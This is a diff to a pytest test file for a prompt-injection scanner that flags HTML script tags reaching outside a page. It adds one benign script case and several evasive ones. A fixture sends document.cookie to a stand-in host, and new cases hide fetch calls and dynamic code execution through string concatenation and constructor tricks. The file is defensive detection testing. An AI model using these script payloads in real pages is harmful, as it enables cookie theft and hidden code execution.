@@ -9,6 +9,7 @@ TAIL = "</head>\n<body><h1>Tides</h1><p>The moon pulls at the sea.</p></body>\n<
 THEME = "<script>\n  const theme = localStorage.getItem('theme');\n  if (theme === 'dark') setDark();\n</script>\n"
 SHOW = "<script type=\"text/javascript\">$('#searchbox').show(0);</script>\n"
 ABOUT = '<script type="application/ld+json">{"@context": "https://schema.org", "@type": "WebPage"}</script>\n'
+LATER = "<script>setTimeout(showAll, 10)</script>\n"
 SENDS = "<script>fetch('https://collect.example/?c=' + document.cookie)</script>\n"
 
 
@@ -16,7 +17,7 @@ def withheld(text: str) -> bool:
     return any(one.entity_type == "PROMPT_INJECTION" for one in scanner_of_guard("redact-only").find(text))
 
 
-@pytest.mark.parametrize("script", [THEME, SHOW, ABOUT])
+@pytest.mark.parametrize("script", [THEME, SHOW, ABOUT, LATER])
 def test_a_script_that_reaches_nowhere(script: str) -> None:
     assert not withheld(HEAD + script + TAIL)
     assert withheld(f"Paid by card. {script}")
@@ -32,6 +33,12 @@ def test_a_script_that_reaches_nowhere(script: str) -> None:
         "<script>(function () { run('\\x68\\x69'); })()</script>",
         "<script onload=run()>a = (1);</script>",
         "<script>a = (1); // without an end",
+        "<script>self['fe' + 'tch']('/' + '/collect.example/')</script>",
+        "<script>a = (Reflect.get(own, name))</script>",
+        "<script>a = [(1)]; a.map.constructor(name)()</script>",
+        "<script>setTimeout('go' + name)</script>",
+        "<script>window[name](1)</script>",
+        "<script>alert(1)</script>",
     ],
 )
 def test_a_script_that_reaches_out(script: str) -> None:
